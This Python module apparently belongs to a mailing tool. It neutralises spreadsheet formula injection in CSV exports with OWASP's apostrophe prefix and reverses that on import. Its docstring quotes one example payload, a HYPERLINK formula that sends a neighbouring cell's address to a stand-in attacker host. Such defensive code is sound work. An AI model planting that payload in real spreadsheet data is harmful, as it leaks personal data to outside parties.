"""Spreadsheet-safe CSV cells: OWASP's rule against formula injection, reversible.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a
tab or CR, what follows) as a formula: a subscriber named
``=HYPERLINK("http://evil.example/?leak="&B3,"Click me")`` becomes a live link that sends a
neighbouring address away. OWASP's rule: prefix such a cell with ``'``, which spreadsheets
take as "text". :func:`neutralise` does that on export, also to a cell that already starts
with quotes before such a character, so :func:`restore` can take exactly one quote off
again and the round trip export -> import stays exact (``'=x`` typed by a person exports as
``''=x`` and imports as ``'=x``; ``'t Hooft`` is left alone both ways).

Import restores only rows that say they come from mailer's export: the export's
:data:`MARKER` column holds :data:`ESCAPED` in every row. A file without that column, or a
row with the cell empty (typed into the spreadsheet later), is imported as written.
"""

from __future__ import annotations

import re

__all__ = ["CONSENT_COLUMNS", "ESCAPED", "FIRST", "MARKER", "neutralise", "restore"]

MARKER = "mailer_export"  # the export's column saying its cells were neutralised
ESCAPED = "1"  # its value in each row (the rule's version)
# The proof of consent an export adds (the latest record); import skips them.
CONSENT_COLUMNS = (
    "consent_signed_up_at",
    "consent_confirmed_at",
    "consent_form",
    "consent_ip",
    "consent_text_sha256",
    "consent_text",
)
# A cell starting otherwise is never touched: ``value[:1] in FIRST`` is the fast test.
FIRST = frozenset("=+-@\t\r'")
_FORMULA = re.compile(r"'*[=+\-@\t\r]")  # quotes (ours or a person's), then a trigger


def neutralise(value: str) -> str:
    """The cell as exported: ``'`` before a value a spreadsheet would take as a formula."""
    if value[:1] in FIRST and _FORMULA.match(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The value :func:`neutralise` was given (for a cell it wrote)."""
    if value[:1] == "'" and _FORMULA.match(value, 1):
        return value[1:]
    return value
